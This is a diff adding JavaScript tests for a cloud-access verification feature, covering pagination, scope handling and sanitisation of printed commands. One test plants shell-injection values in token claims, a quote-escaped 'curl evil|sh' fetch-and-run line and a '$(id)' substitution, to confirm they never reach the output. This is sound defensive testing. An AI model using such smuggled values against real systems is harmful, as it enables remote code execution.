@@ -53,6 +53,42 @@ describe('verify', { concurrency: 4 }, () => {
     assert.doesNotMatch(result.summary, /<b>|`y`| \| `|injected\n/)
   })
 
+  it('bears entries of any kind, and says when there are more pages', async () => {
+    await using scenario = await start()
+    const value = [{ displayName: { toString: 1 }, id: 'x' }, null, 7, { displayName: 'Dev' }]
+    scenario.emulator.faults.next('api', { body: { value, nextLink: 'https://next.example' } })
+    const { log } = await scenario.run({ verify: 'true' })
+    assert.match(
+      log,
+      /^Verified: at least 4 environments are visible: x, without a name, without a name, Dev$/m,
+    )
+  })
+
+  it("takes the API's application ID as scope, too", async () => {
+    await using scenario = await start(['Dev'])
+    const scope = '8578e004-a5c6-46e7-913e-12f58912df43'
+    const { requests } = await scenario.run({ verify: 'true', scope })
+    assert.equal(requests[2]?.slice(0, 3), 'api', 'it was taken for the scope of another API')
+  })
+
+  it('puts nothing but IDs into the commands that it prints', async () => {
+    await using scenario = await start()
+    const claims = { tid: "x'; curl evil|sh #", oid: '$(id)' }
+    const token = `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x`
+    scenario.emulator.faults.next('login', {
+      body: { token_type: 'Bearer', expires_in: 3599, access_token: token },
+    })
+    scenario.emulator.faults.next('api', { status: 403, body: {} })
+    const result = await scenario.run({ verify: 'true' })
+    assertRefusal(
+      result,
+      `/tenants/${scenario.tenant.id}`,
+      'OBJECT_ID',
+      `az ad sp show --id ${scenario.app.clientId}`,
+    )
+    assert.doesNotMatch(result.annotations[0]?.message ?? '', /curl evil|\$\(id\)/)
+  })
+
   it('is not called unless asked for', async () => {
     await using scenario = await start()
     assert.deepEqual((await scenario.run({ verify: 'False' })).requests, ['oidc GET 200', 'login POST 200'])
